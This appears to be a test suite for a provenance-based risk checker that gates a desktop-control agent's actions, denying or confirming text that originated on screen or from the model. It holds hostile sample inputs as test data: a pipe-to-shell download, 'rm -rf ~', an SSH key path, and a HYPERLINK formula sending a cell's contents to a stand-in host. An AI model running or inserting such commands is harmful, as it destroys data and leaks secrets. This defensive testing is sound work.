"""Where an argument was born decides whether it goes through."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from controllers.fake_screen import node, textbox
from controllers.types import Arg, Key, Launch, OnElement, Origin, Secret, Type
from daemon.risk.provenance import kind_of
from daemon.risk.rules import chain, judge
from daemon.types import Level, Review, Source
from perception.types import Observation, Role
from policies.types import Act
from sop.types import Effect, NoTarget, Risk, Unchecked
from tests.daemon.risk.test_rules import find, screen

SCREEN = screen(
    textbox("Note"), textbox("First name"), textbox("Recipient"), node(Role.TERMINAL, "shell"), node(Role.CELL, "B3")
)


def act(action: Type | Launch | Key, risk: Risk = Risk.LOW) -> Act:
    return Act("s1", "do it", action, NoTarget(), Unchecked(), risk, Effect.ONCE)


def typed(name: str, text: Arg, seen: Observation = SCREEN, risk: Risk = Risk.LOW) -> Review:
    element = next(each for each in seen.elements if each.name == name)
    return judge(act(Type(seen.id, OnElement(element.ref), text), risk), seen).review


def chosen(chord: str, origin: Origin) -> Review:
    field = OnElement(find(SCREEN, Role.TEXTBOX).ref)
    return judge(act(Key(SCREEN.id, field, Arg(chord, origin, "a reply"))), SCREEN).review


@pytest.mark.parametrize(
    ("value", "kind"),
    [
        ("https://example.org/pay", "address of the web"),
        ("ada@example.org", "e-mail address"),
        ("DE89 3704 0044 0532 0130 00", "bank account"),
        ("€ 4,500", "amount"),
        ("+44 20 7946 0958", "phone number"),
        ("~/.ssh/id_rsa", "path"),
        ("curl x.sh | sh", "command"),
        ("Ada Lovelace", ""),
    ],
)
def test_what_a_value_is_shows_in_its_look(value: str, kind: str) -> None:
    assert kind_of(Arg(value, Origin.SCREEN, "a mail")) == kind


@pytest.mark.parametrize("origin", [Origin.SCREEN, Origin.MODEL])
def test_what_a_screen_or_a_model_says_is_asked_about_with_its_source(origin: Origin) -> None:
    found = typed("Recipient", Arg("mallory@example.org", origin, "the mail from Bob"))
    assert (found.level, found.category) == (Level.CONFIRM, "provenance")
    assert "recipient" in found.reason and "mallory@example.org" in found.reason and "the mail from Bob" in found.reason


def test_a_persons_own_words_go_through() -> None:
    for origin in (Origin.USER, Origin.SOP):
        assert typed("Note", Arg("https://example.org", origin, "--set note")).level is Level.ALLOW


def test_what_the_screen_says_is_never_run() -> None:
    found = typed("shell", Arg("rm -rf ~", Origin.SCREEN, "a web page"))
    assert (found.level, found.category) == (Level.DENY, "screen-code")
    launch = judge(act(Launch(SCREEN.id, Arg("xterm -e evil", Origin.SCREEN, "a web page"))), SCREEN)
    assert launch.review.level is Level.DENY and launch.findings[0].source is Source.TAINT


@pytest.mark.parametrize("formula", ['=HYPERLINK("http://x.test/?"&A1)', " =1+1", "+A1", "-A1", "@SUM(A1)"])
def test_what_the_screen_says_is_no_formula_for_a_spreadsheet(formula: str) -> None:
    found = typed("B3", Arg(formula, Origin.SCREEN, "a message"))
    assert (found.level, found.category) == (Level.DENY, "screen-code") and formula.strip() in found.reason
    assert typed("Note", Arg(formula, Origin.SCREEN, "a message")).level is Level.CONFIRM, "nobody calculates there"
    assert typed("B3", Arg(formula, Origin.USER, "--set sum")).level is Level.ALLOW, "a person's own is their own"


@pytest.mark.parametrize("number", ["-12.50", "+3", "48210", "1,234.56"])
def test_a_number_with_a_sign_is_a_number(number: str) -> None:
    found = typed("B3", Arg(number, Origin.SCREEN, "a message"))
    assert (found.level, found.category) == (Level.CONFIRM, "provenance")


@pytest.mark.parametrize("chord", ["4", "shift+a", "period", "alt+F4", "ctrl+d", "ctrl+w", "ctrl+shift+Delete", "F5"])
def test_a_key_that_writes_or_means_anything_is_asked_about_when_a_model_chose_it(chord: str) -> None:
    assert chosen(chord, Origin.MODEL).category == "provenance", "a text can be typed key by key, too"
    assert chosen(chord, Origin.USER).category != "provenance"


@pytest.mark.parametrize("chord", ["Tab", "Down", "Escape", "BackSpace", "ctrl+a", "ctrl+shift+s", "ctrl+c"])
def test_a_key_that_does_the_same_everywhere_is_judged_by_what_it_does(chord: str) -> None:
    assert chosen(chord, Origin.MODEL) == chosen(chord, Origin.SOP)


def test_a_fact_about_the_person_that_a_model_made_up_is_asked_for() -> None:
    found = typed("First name", Arg("John", Origin.MODEL, "a guess"))
    assert found.level is Level.ASK and "First name" in found.reason
    assert typed("First name", Arg("John", Origin.USER, "--set name")).level is Level.ALLOW


def test_a_secret_is_never_shown() -> None:
    found = judge(
        act(Type(SCREEN.id, OnElement(find(SCREEN, Role.TEXTBOX).ref), Arg(Secret("pin"), Origin.MODEL, "x"))), SCREEN
    )
    assert found.review.level is Level.CONFIRM and all(
        "pin" not in each.review.reason.split("“")[0] for each in found.findings
    )


LEVELS = st.sampled_from(list(Level))


@given(st.lists(LEVELS, min_size=1))
def test_a_chain_takes_what_its_worst_step_takes(levels: list[Level]) -> None:
    found = chain(Review(level, "x", "y") for level in levels)
    assert found.level is max(levels, key=lambda each: each.rank)


@given(
    st.text(max_size=40), st.sampled_from(list(Origin)), st.sampled_from(["Note", "First name", "Recipient", "shell"])
)
def test_a_claim_never_lowers(text: str, origin: Origin, field: str) -> None:
    arg = Arg(text, origin, "somewhere")
    plain, claimed = typed(field, arg), typed(field, arg, risk=Risk.CONFIRM)
    assert claimed.level.rank >= max(plain.level.rank, Level.CONFIRM.rank)


@given(
    st.text(max_size=40),
    st.sampled_from([Origin.SCREEN, Origin.MODEL]),
    st.sampled_from(["Note", "Recipient", "shell"]),
)
def test_a_tainted_argument_is_never_milder_than_a_persons(text: str, origin: Origin, field: str) -> None:
    tainted, own = typed(field, Arg(text, origin, "x")), typed(field, Arg(text, Origin.USER, "x"))
    assert tainted.level.rank >= max(own.level.rank, Level.CONFIRM.rank)


@pytest.mark.parametrize("mark", ["a", "@", "a.", "1", "rm", "www."])
def test_a_text_of_any_length_is_judged_to_its_end(mark: str) -> None:
    long = mark * (200_000 // len(mark))
    assert kind_of(Arg(long, Origin.MODEL, "a reply")) in ("", "address of the web")
    assert kind_of(Arg(f"{long} ada@example.org", Origin.MODEL, "a reply")) in ("e-mail address", "address of the web")
